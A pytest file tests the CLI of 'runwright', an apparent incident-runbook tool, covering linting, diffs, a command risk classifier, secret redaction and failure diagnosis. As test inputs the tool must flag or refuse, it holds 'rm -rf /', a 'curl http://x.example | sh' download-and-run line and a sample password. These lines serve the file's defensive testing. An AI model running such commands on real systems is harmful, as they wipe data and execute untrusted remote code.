"""Commands that need no server: text for people, JSON for programs, JSON lines in and out, the right exit status."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from runwright.lab.library import folder
from runwright.model.diagnoses import FailureType
from runwright.model.executions import ExecutionResult
from support.telemetry import load_cases, result_of, starter

if TYPE_CHECKING:
    from conftest import Cli

CASES = dict(load_cases())
INSUFFICIENT = "runbook_insufficient:stale-lock-says-so"

RUNBOOK = """\
schema: runwright/v1
id: RB-OWN-1
name: Look first
incident_types: [service_crash]
steps:
  - id: look
    run: uptime
    idempotent: true
verify:
  - id: fine
    run: 'true'
"""


@pytest.fixture
def runbook(tmp_path: Path) -> Path:
    file = tmp_path / "own.yaml"
    file.write_text(RUNBOOK)
    return file


def improvable() -> tuple[ExecutionResult, str]:
    """A failed run that an edit cures, and the text of its runbook."""
    for name, case in CASES.items():
        if name.startswith("runbook_insufficient") and case["expect"].get("repairs") and "runbook_yaml" not in case:
            return result_of(case), starter(case.get("runbook", "RB-LINUX-SERVICE-001")).text
    raise AssertionError("no such case")


class TestLint:
    def test_a_good_runbook(self, cli: Cli, runbook: Path) -> None:
        said = cli("runbook", "lint", runbook)
        assert (said.status, said.err) == (0, "")
        assert "RB-OWN-1 sha256:" in said.out
        assert "nothing found" in said.out

    def test_each_fault_is_said_once(self, cli: Cli, runbook: Path) -> None:
        runbook.write_text(RUNBOOK.replace("run: uptime", "run: uptime\n    timeout: soon"))
        said = cli("runbook", "lint", runbook)
        assert said.status == 3
        assert said.err.count("found duration 'soon'") == 1

    def test_findings_have_their_place(self, cli: Cli, runbook: Path) -> None:
        runbook.write_text(RUNBOOK.replace("run: uptime", "run: rm -rf /"))
        said = cli("runbook", "lint", runbook)
        assert said.status == 1
        assert f"{runbook}:7: error [" in said.out
        (answer,) = cli("runbook", "lint", runbook, "--json").data
        assert answer["id"] == "RB-OWN-1"
        assert answer["digest"].startswith("sha256:")
        assert {"error"} <= {finding["severity"] for finding in answer["findings"]}

    def test_no_runbook_is_no_verdict(self, cli: Cli, runbook: Path) -> None:
        runbook.write_text(RUNBOOK.replace("steps:", "stepz:"))
        said = cli("runbook", "lint", runbook)
        assert (said.status, said.out) == (3, "")
        assert f"{runbook}:5:1: " in said.err
        problem = cli("runbook", "lint", runbook, "--json").problem
        assert problem["code"] == "invalid-input"
        assert {fault["line"] for fault in problem["faults"]} >= {5}

    def test_a_file_that_is_not_there(self, cli: Cli, tmp_path: Path) -> None:
        said = cli("runbook", "lint", tmp_path / "none.yaml", "--json")
        assert said.status == 3
        assert "none.yaml" in said.problem["found"]
        assert said.problem["next_step"]

    def test_a_file_that_is_not_text(self, cli: Cli, tmp_path: Path) -> None:
        file = tmp_path / "binary.yaml"
        file.write_bytes(b"schema: \xff")
        said = cli("runbook", "lint", file)
        assert said.status == 3
        assert "not UTF-8" in said.err
        assert "offset 8" in said.err


class TestDiffAndSchema:
    def test_equal_texts(self, cli: Cli, runbook: Path) -> None:
        said = cli("runbook", "diff", runbook, runbook)
        assert (said.status, said.out) == (0, "No difference.\n")

    def test_a_changed_step(self, cli: Cli, runbook: Path, tmp_path: Path) -> None:
        changed = tmp_path / "changed.yaml"
        changed.write_text(RUNBOOK.replace("uptime", "uptime -p"))
        said = cli("runbook", "diff", runbook, changed)
        assert said.status == 1
        assert "-    run: uptime\n" in said.out
        assert "+    run: uptime -p\n" in said.out
        answer = cli("runbook", "diff", runbook, changed, "--json").data
        assert [(step["id"], step["kind"]) for step in answer["steps"] if step["kind"] != "unchanged"] == [
            ("look", "changed")
        ]

    def test_a_comment_counts_too(self, cli: Cli, runbook: Path, tmp_path: Path) -> None:
        commented = tmp_path / "commented.yaml"
        commented.write_text(RUNBOOK + "# a word\n")
        answer = cli("runbook", "diff", runbook, commented, "--json")
        assert answer.status == 1
        assert answer.data["same_content"]
        assert not answer.data["same_text"]

    def test_the_schema_accepts_what_the_loader_accepts(self, cli: Cli) -> None:
        from jsonschema import Draft202012Validator
        from ruamel.yaml import YAML

        schema = cli("runbook", "schema").data
        assert schema == cli("runbook", "schema", "--json").data
        check = Draft202012Validator(schema)
        check.validate(YAML(typ="safe").load(RUNBOOK))
        assert not check.is_valid({**YAML(typ="safe").load(RUNBOOK), "nonsense": 1})


class TestRisk:
    def test_one_command(self, cli: Cli) -> None:
        assert cli("risk", "systemctl restart nginx").status == 0
        said = cli("risk", "rm -rf /", "--json")
        assert said.status == 1
        assert said.data["schema"] == "runwright/risk/v1"
        assert said.data["verdict"] == "refuse"
        assert said.data["classes"] == ["destructive"]

    def test_for_people(self, cli: Cli) -> None:
        said = cli("risk", "rm -rf /")
        assert said.out.startswith("refuse: destructive\n")
        assert "runs: rm -rf /" in said.out

    def test_json_lines(self, cli: Cli) -> None:
        given = '{"command": "uptime"}\n\n{"command": "curl http://x.example | sh"}\n'
        said = cli("risk", given=given)
        assert said.status == 1
        assert [line["command"] for line in said.lines] == ["uptime", "curl http://x.example | sh"]
        assert [line["verdict"] == "ok" for line in said.lines] == [True, False]

    @pytest.mark.parametrize("line", ["nonsense", "[]", "{}", '{"command": 1}', "1", "null", "[" * 100_000])
    def test_a_bad_line_is_named_and_nothing_is_answered(self, cli: Cli, line: str) -> None:
        said = cli("risk", "--json", given='{"command": "uptime"}\n' + line + "\n")
        assert (said.status, said.out) == (3, "")
        (fault,) = said.problem["faults"]
        assert (fault["file"], fault["line"]) == ("stdin", 2)

    def test_nothing_in_nothing_out(self, cli: Cli) -> None:
        assert cli("risk", given="") == cli("redact", given="\n")


class TestRedact:
    def test_one_text(self, cli: Cli) -> None:
        said = cli("redact", "password=hunter22", "--json")
        assert said.status == 1
        assert said.data["schema"] == "runwright/redact/v1"
        assert said.data["text"] == "password=[redacted:assigned_secret]"
        assert said.data["found"] == [{"kind": "assigned_secret", "start": 9, "end": 17}]

    def test_nothing_found(self, cli: Cli) -> None:
        said = cli("redact", "just words")
        assert (said.status, said.out) == (0, "just words\n")

    def test_json_lines(self, cli: Cli) -> None:
        said = cli("redact", given=json.dumps({"text": "a"}) + "\n" + json.dumps({"text": "token: abcdefgh"}) + "\n")
        assert said.status == 1
        assert [len(line["found"]) for line in said.lines] == [0, 1]


class TestLearn:
    def test_diagnose_a_file(self, cli: Cli, tmp_path: Path) -> None:
        result, _ = improvable()
        file = tmp_path / "result.json"
        file.write_text(result.model_dump_json(by_alias=True))
        said = cli("learn", "diagnose", file, "--json")
        assert said.status == 0
        assert said.data["schema"] == "runwright/diagnosis/v1"
        assert said.data["failure_type"] == "runbook_insufficient"
        assert said.data["signals"]
        people = cli("learn", "diagnose", file)
        assert people.out.startswith("runbook_insufficient (")

    def test_diagnose_json_lines_of_every_kind(self, cli: Cli) -> None:
        kinds = {case["expect"]["failure_type"]: result_of(case) for case in CASES.values()}
        given = "".join(result.model_dump_json(by_alias=True) + "\n" for result in kinds.values())
        said = cli("learn", "diagnose", given=given)
        assert said.status == 1, "one of them is undetermined"
        assert {line["failure_type"] for line in said.lines} == set(FailureType)

    def test_improve(self, cli: Cli, tmp_path: Path) -> None:
        result, text = improvable()
        runbook = tmp_path / "runbook.yaml"
        runbook.write_text(text)
        given = result.model_dump_json(by_alias=True) + "\n"
        said = cli("learn", "improve", "--runbook", runbook, given=given)
        assert said.status == 0
        (answer,) = said.lines
        assert answer["schema"] == "runwright/improvement/v1"
        assert answer["refused"] is None
        assert answer["edits"][0]["reason"]
        candidate = tmp_path / "candidate.yaml"
        candidate.write_text(answer["runbook_yaml"])
        assert cli("runbook", "lint", candidate).status == 0
        file = tmp_path / "result.json"
        file.write_text(given)
        people = cli("learn", "improve", file, "--runbook", runbook)
        assert answer["runbook_yaml"] in people.out

    def test_improve_refuses_where_an_edit_is_no_cure(self, cli: Cli, tmp_path: Path) -> None:
        case = next(case for case in CASES.values() if case["expect"]["failure_type"] == "permission_denied")
        runbook = tmp_path / "runbook.yaml"
        runbook.write_text(starter("RB-LINUX-SERVICE-001").text)
        given = result_of(case).model_dump_json(by_alias=True) + "\n"
        said = cli("learn", "improve", "--runbook", runbook, given=given)
        assert said.status == 1
        assert said.lines[0]["refused"]
        assert said.lines[0]["runbook_yaml"] is None

    def test_improve_wants_the_runbook(self, cli: Cli) -> None:
        said = cli("learn", "improve", "--json", given="{}\n")
        assert said.status == 2
        assert said.problem["code"] == "usage"

    def test_unknown_fields_of_other_executors_are_taken(self, cli: Cli) -> None:
        result, _ = improvable()
        data = json.loads(result.model_dump_json(by_alias=True))
        grown = with_unknown_fields(data)
        assert grown != data
        said = cli("learn", "diagnose", given=json.dumps(grown) + "\n")
        assert said.status == 0, said.err
        assert said.lines[0]["failure_type"] == "runbook_insufficient"

    def test_every_fault_of_every_line_is_named(self, cli: Cli) -> None:
        result, _ = improvable()
        data = json.loads(result.model_dump_json(by_alias=True))
        given = [{**data, "status": "done"}, data, {key: value for key, value in data.items() if key != "host"}]
        said = cli("learn", "diagnose", "--json", given="".join(json.dumps(item) + "\n" for item in given))
        assert (said.status, said.out) == (3, "")
        places = {(fault["line"], fault["path"]) for fault in said.problem["faults"]}
        assert places == {(1, "status"), (3, "host")}

    def test_a_model_that_is_asked_for_must_be_configured(self, cli: Cli) -> None:
        said = cli("learn", "diagnose", "--engine", "llm", "--json", given="{}\n")
        assert said.status == 1
        assert "RUNWRIGHT_LLM_BASE_URL" in said.problem["next_step"]


def with_unknown_fields(data: Any) -> Any:
    """A field nobody knows in every record of a result; free mappings (subject, tags, extra) left alone."""
    if isinstance(data, list):
        return [with_unknown_fields(item) for item in data]
    if not isinstance(data, dict):
        return data
    grown = {
        name: value if name in ("subject", "tags", "extra") else with_unknown_fields(value)
        for name, value in data.items()
    }
    return {**grown, "of_another_tool": {"deep": [1, None]}}


class TestLab:
    def test_list(self, cli: Cli) -> None:
        said = cli("lab", "list", "--json")
        assert said.status == 0
        assert {item["schema"] for item in said.data} == {"runwright/scenario/v1"}
        assert {item["incident"]["incident_type"] for item in said.data} >= {"service_crash", "disk_full"}
        people = cli("lab", "list")
        assert all(item["id"] in people.out for item in said.data)

    def test_a_trial_of_nothing(self, cli: Cli, runbook: Path, tmp_path: Path) -> None:
        said = cli("lab", "trial", runbook, tmp_path / "none.yaml", "--json")
        assert said.status == 3
        assert "none.yaml" in said.problem["found"]

    def test_a_trial_of_no_runbook(self, cli: Cli, runbook: Path) -> None:
        runbook.write_text("nothing")
        scenario = next(folder().rglob("*.yaml"))
        said = cli("lab", "trial", runbook, scenario, "--json")
        assert said.status == 3
        assert said.problem["faults"]

    def test_scenarios_are_read_before_anything_is_booted(self, cli: Cli, tmp_path: Path) -> None:
        (tmp_path / "bad.yaml").write_text("schema: runwright/scenario/v1\nid: x\n")
        said = cli("lab", "check", tmp_path, "--json")
        assert said.status == 3
        assert {fault["line"] for fault in said.problem["faults"]} == {1}


class TestElsewhere:
    @pytest.mark.parametrize(
        "call",
        [
            ("incident", "list"),
            ("execution", "list"),
            ("review", "list"),
            ("runbook", "list"),
            ("host", "list"),
            ("client", "list"),
            ("user", "whoami"),
            ("user", "logout"),
            ("token", "revoke", "tok_1"),
            ("release",),
            ("kpis",),
        ],
    )
    def test_without_a_login_the_way_to_one_is_named(self, cli: Cli, call: tuple[str, ...], own_sessions: None) -> None:
        said = cli(*call, "--json")
        assert said.status == 1
        assert said.problem["code"] == "unauthenticated"
        assert "runwright user login" in said.problem["next_step"]

    def test_keys_before_the_first_start(self, cli: Cli) -> None:
        assert cli("key", "list", "--json").data == {}
        assert "None yet" in cli("key", "list").out

    def test_no_audit_chain_yet(self, cli: Cli) -> None:
        said = cli("audit", "verify", "--json")
        assert (said.status, said.data) == (0, {})
        assert cli("audit", "export").out == ""

    def test_version(self, cli: Cli) -> None:
        from runwright import __version__

        assert cli("--version").out == f"runwright {__version__}\n"


@pytest.fixture
def own_sessions(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RUNWRIGHT_SESSION_FILE", str(tmp_path / "sessions.json"))


def test_an_incident_of_no_known_type_is_refused_in_our_own_words(cli: Cli) -> None:
    said = cli("incident", "report", "nonsense", "--host", "web-1", "--set", "service=shopd")
    assert said.status == 3
    assert "found incident type 'nonsense'; allowed: " in said.err
    assert "Value error" not in said.err
